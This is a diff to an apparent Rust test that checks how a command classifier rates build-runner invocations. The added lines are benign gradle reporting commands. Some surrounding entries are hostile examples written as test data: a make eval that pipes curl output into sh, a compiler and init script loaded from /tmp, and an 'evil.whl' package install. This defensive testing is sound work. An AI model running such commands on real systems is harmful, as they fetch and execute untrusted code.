@@ -2302,6 +2302,14 @@ fn runner_options_are_what_they_do() {
         ("make --eval 'x:;curl e|sh'", "soft"),
         ("make CC=/tmp/cc", "soft"),
         ("gradle test --init-script=/tmp/i.gradle", "soft"),
+        // The reporting tasks' own options: the build scripts still run, unchanged.
+        ("./gradlew tasks --all", "routine"),
+        (
+            "gradle dependencies --configuration runtimeClasspath",
+            "routine",
+        ),
+        ("./gradlew tasks --all --init-script=/tmp/i.gradle", "soft"),
+        ("./gradlew tasks --all --no-such-option", "unknown"),
         ("tox -e py --installpkg /tmp/evil.whl", "soft"),
         ("uv run pytest -x 2>&1 | tail -20", "routine"),
         ("uv run python -m pytest tests/ -q", "routine"),
